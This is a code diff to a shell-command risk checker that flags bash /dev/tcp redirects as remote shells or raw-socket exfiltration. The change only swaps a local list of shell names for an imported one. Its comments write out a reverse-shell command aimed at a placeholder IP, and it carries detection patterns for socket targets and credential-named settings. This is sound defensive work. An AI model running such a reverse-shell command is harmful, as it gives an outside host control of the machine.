@@ -2,7 +2,7 @@
 // permissions, processes, logs and the network.
 import { detectEnv, pathKind, type PathKind } from '../context';
 import { f, type Finding, ladder, readSecret, snippet, unplacedRun } from '../findings';
-import { hasFlag, optValue, positionals, type Cmd } from '../shell/parse';
+import { hasFlag, optValue, positionals, SHELLS, type Cmd } from '../shell/parse';
 import { readHttp, type HttpCall } from '../readers/http';
 import { removesCheck } from '../readers/files';
 import { readOp, splitName } from '../readers/words';
@@ -152,19 +152,17 @@ export const DEV_ENV_FILE = /(?:^|\/)\.env\.(?:development|dev|local|test|testin
 /** cls-benign15: NAME=value where neither says credential. */
 export const PLAIN_SETTING = /^(?![A-Z0-9_]*(?:SECRET|TOKEN|KEY|PASS|PWD|CREDENTIAL|AUTH|PRIVATE|DSN|URL|URI|SALT|COOKIE|SESSION|CERT|USER|LOGIN))[A-Z][A-Z0-9_]*=(?:[\w.:/-]{0,40}|"[\w .:/-]{0,40}"|'[\w .:/-]{0,40}')$/;
 
-const SHELL_NAMES = new Set(['bash', 'sh', 'zsh', 'dash', 'ksh', 'fish', 'ash', 'busybox']);
-
 function redirectFindings(cmd: Cmd, emptyWrite: boolean): Finding[] {
   const out: Finding[] = [];
   // (\`bash -i >& /dev/tcp/h/p\`: the lexer keeps a target written after a spaced \`>&\` as a word, so a shell's word naming
   // a socket counts as that redirect.)
-  const socketWord = SHELL_NAMES.has(cmd.name) && cmd.args.some((x) => /^\/dev\/(?:tcp|udp)\/[^/\s]+\/\d+/.test(x)) && !cmd.redirects.some((r) => /^\/dev\/(?:tcp|udp)\//.test(r.target));
+  const socketWord = SHELLS.has(cmd.name) && cmd.args.some((x) => /^\/dev\/(?:tcp|udp)\/[^/\s]+\/\d+/.test(x)) && !cmd.redirects.some((r) => /^\/dev\/(?:tcp|udp)\//.test(r.target));
   if (socketWord) out.push(f(cmd.sudo ? 'forbidden' : 'dangerous', `hands a remote host an interactive shell on this machine (${snippet(cmd.text, 60)})`));
   for (const r of cmd.redirects) {
     // (lead16) bash's /dev/tcp and /dev/udp: a socket to another host. A shell whose input and output go there is a
     // remote shell handed to that host (`bash -i >& /dev/tcp/203.0.113.5/4444 0>&1`); any other output goes out to it.
     if (/^\/dev\/(?:tcp|udp)\/[^/\s]+\/\d+/.test(r.target)) {
-      if (SHELL_NAMES.has(cmd.name)) out.push(f(cmd.sudo ? 'forbidden' : 'dangerous', `hands a remote host an interactive shell on this machine (${snippet(cmd.text, 60)})`));
+      if (SHELLS.has(cmd.name)) out.push(f(cmd.sudo ? 'forbidden' : 'dangerous', `hands a remote host an interactive shell on this machine (${snippet(cmd.text, 60)})`));
       else if (!r.op.startsWith('<')) out.push(f('dangerous', `sends output to another host over a raw socket (${r.target})`));
       continue;
     }
